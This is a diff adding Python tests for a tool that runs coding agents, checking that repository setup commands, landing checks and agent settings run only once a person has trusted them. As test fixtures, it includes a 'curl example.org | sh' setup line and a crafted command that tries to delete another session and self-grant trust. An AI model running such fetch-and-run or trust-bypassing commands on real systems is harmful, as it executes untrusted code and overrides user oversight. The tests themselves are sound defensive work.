@@ -1,6 +1,8 @@
 """Trust is bound to content: what an agent, a landing or a pull puts into a repository runs only once the person has trusted it."""
 
 import asyncio
+import json
+import sys
 import uuid
 from collections.abc import Awaitable, Callable
 from contextlib import suppress
@@ -9,7 +11,7 @@ from typing import Any
 
 import grpc
 import pytest
-from ramet.v1 import landing_pb2, session_pb2, terminal_pb2
+from ramet.v1 import landing_pb2, repo_pb2, session_pb2, terminal_pb2
 
 from tests.support.agents import script
 from tests.support.daemon import IDLE, Client, Sandbox, git
@@ -144,9 +146,9 @@ WAYS: list[Callable[[World], Awaitable[session_pb2.Session]]] = [
 ]
 
 
-async def land(client: Client, name: str) -> landing_pb2.Landing:
+async def land(client: Client, name: str, **fields: Any) -> landing_pb2.Landing:
     await client.landing.LandSessions(
-        landing_pb2.LandSessionsRequest(sessions=[name], target="main"), metadata=client.metadata
+        landing_pb2.LandSessionsRequest(sessions=[name], target="main", **fields), metadata=client.metadata
     )
     request = landing_pb2.WaitLandingsRequest(landings=[name], timeout_seconds=60)
     (done,) = (await client.landing.WaitLandings(request, metadata=client.metadata)).landings
@@ -285,3 +287,72 @@ def loads_all(sandbox: Sandbox, session: session_pb2.Session) -> bool:
     (agent,) = [each for each in sandbox.agents() if each.environ().get("RAMET_SESSION") == session.id]
     command = agent.cmdline()
     return "--setting-sources=user" not in command
+
+
+async def test_what_runs_for_no_session_may_only_look(world: World) -> None:
+    """A landing check and the setup of a spare run an agent's code, and have no session whose rights they could have."""
+    ctl, marks = f"{sys.executable} -m rametctl", world.marks
+    tried = (
+        f"env | grep -q ^RAMET_SESS && exit 0; {ctl} ls > {marks}/PLACE-ls; "
+        f"{ctl} rm victim --force 2> {marks}/PLACE-rm; {ctl} repo trust --yes 2> {marks}/PLACE-trust; true"
+    )
+    victim = await world.client.create(world.path, name="victim")
+    (world.path / ".ramet.toml").write_text(f"setup = {json.dumps(tried.replace('PLACE', 'spare'))}\n")
+    await world.client.trust(world.path)
+    for verb in ("drain", "fill"):
+        await asyncio.to_thread(world.sandbox.ctl, "pool", verb, cwd=world.path)
+    agent = await world.agent()
+    (Path(agent.worktree) / "work.txt").write_text("work\n")
+    git(Path(agent.worktree), "add", "-A")
+    git(Path(agent.worktree), "commit", "-qm", "work")
+    await land(world.client, agent.id, check=[tried.replace("PLACE", "check")])
+    for place in ("spare", "check"):
+        assert "victim" in (marks / f"{place}-ls").read_text()
+        for verb in ("rm", "trust"):
+            assert "a landing check or a spare's setup may not call" in (marks / f"{place}-{verb}").read_text()
+    assert (await world.client.get(victim.id)).name == "victim"
+
+
+async def test_a_landing_says_which_commands_it_changes(world: World) -> None:
+    world.write(world.path, commit=True)
+    await world.client.trust(world.path)
+    agent = await world.agent()
+    tree = Path(agent.worktree)
+    (tree / ".ramet.toml").write_text('setup = "curl example.org | sh"\n')
+    put(tree / ".claude/settings.json", '{"hooks": {}}\n')
+    git(tree, "add", "-A")
+    git(tree, "commit", "-qm", "settings")
+    answer = await world.client.landing.LandSessions(
+        landing_pb2.LandSessionsRequest(sessions=[agent.id], target="main"), metadata=world.client.metadata
+    )
+    (words,) = answer.warnings
+    assert "changes setup, .claude/settings.json, withheld until `rametctl repo trust" in words
+    assert "removes " in words
+
+
+async def test_a_change_is_shown_as_a_difference_until_it_is_trusted(world: World) -> None:
+    async def ctl(*words: str) -> str:
+        return (await asyncio.to_thread(world.sandbox.ctl, *words, cwd=world.path)).stdout
+
+    (world.path / ".ramet.toml").write_text('setup = "make deps"\n')
+    await world.client.trust(world.path)
+    assert "It has changed" not in await ctl("repo", "show")
+    (world.path / ".ramet.toml").write_text('setup = "make evil"\n')
+    for shown in (await ctl("repo", "show"), await ctl("repo", "trust", "--yes")):
+        assert '-setup = "make deps"' in shown
+        assert '+setup = "make evil"' in shown
+    assert "It has changed" not in await ctl("repo", "show")
+
+
+async def test_what_was_not_shown_is_not_trusted(world: World) -> None:
+    shown = await world.client.repos.GetTrust(
+        repo_pb2.GetTrustRequest(repo=str(world.path)), metadata=world.client.metadata
+    )
+    world.write(world.path, commit=False)
+    request = repo_pb2.UpdateRepoRequest(
+        repo_id=shown.repo.id, repo=repo_pb2.Repo(trusted=True), trust_digest=shown.digest
+    )
+    request.update_mask.paths.append("trusted")
+    assert (await refusal(world.client.repos.UpdateRepo(request, metadata=world.client.metadata)))[0] == "WRONG_STATE"
+    request.trust_digest = ""
+    assert (await refusal(world.client.repos.UpdateRepo(request, metadata=world.client.metadata)))[0] == "INVALID_INPUT"
